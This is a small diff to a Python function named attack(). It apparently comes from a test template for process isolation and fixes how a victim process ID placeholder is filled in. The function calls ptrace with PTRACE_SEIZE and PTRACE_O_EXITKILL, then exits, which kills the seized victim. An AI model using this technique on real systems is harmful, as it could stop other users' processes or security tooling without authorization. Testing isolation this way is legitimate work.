@@ -2,5 +2,5 @@ import ctypes, os
 
 def attack():
     libc = ctypes.CDLL(None)
-    libc.ptrace(0x4206, @VICTIM@, 0, 0x100000)  # PTRACE_SEIZE, PTRACE_O_EXITKILL: the victim dies with us
+    libc.ptrace(0x4206, int("@VICTIM@"), 0, 0x100000)  # PTRACE_SEIZE, PTRACE_O_EXITKILL: the victim dies with us
     os._exit(0)
